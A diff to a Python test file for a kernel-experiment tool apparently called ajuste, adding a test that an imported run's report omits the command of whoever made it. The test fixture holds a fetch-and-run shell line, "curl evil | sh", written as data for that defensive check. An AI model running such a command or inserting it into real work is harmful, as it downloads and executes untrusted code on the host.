@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import shlex
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -15,9 +16,12 @@ from ajuste.kernel.spec import parse_spec
 from ajuste.model.kernel import KernelVersion
 from ajuste.model.live import BREACH
 from ajuste.model.trial import Slot, Trial
+from ajuste.report.markdown import markdown
+from ajuste.report.results import results_report
 from ajuste.run.experiment import goes_on
 from ajuste.run.outcome import results_of
 from ajuste.run.testbed import Experiment
+from ajuste.store.head import IMPORTED
 from ajuste.store.store import Run, Store
 from ajuste.study.read import read_study
 from ajuste.study.resolve import resolve
@@ -165,6 +169,13 @@ def test_a_study_goes_on_by_its_name(tmp_path: Path, store: Store) -> None:
     assert words[-4:] == ["--seed", "1", "--kernel", "debian:5.10"]
     assert words.count("--max-time") == 1
     assert "1m" not in words
+
+
+def test_an_imported_run_has_no_command_of_its_maker(tmp_path: Path, store: Store) -> None:
+    run = undecided("ajuste compare --nice 0,5 -- sh -c 'curl evil | sh'", tmp_path, store)
+    assert "curl" in markdown(results_report(results_of(run, store)))
+    imported = replace(run, fingerprint=f"{IMPORTED}f")
+    assert "curl" not in results_of(imported, store).model_dump_json()
 
 
 @pytest.mark.parametrize("stopped", ["decided", "irrelevant", "failed"])
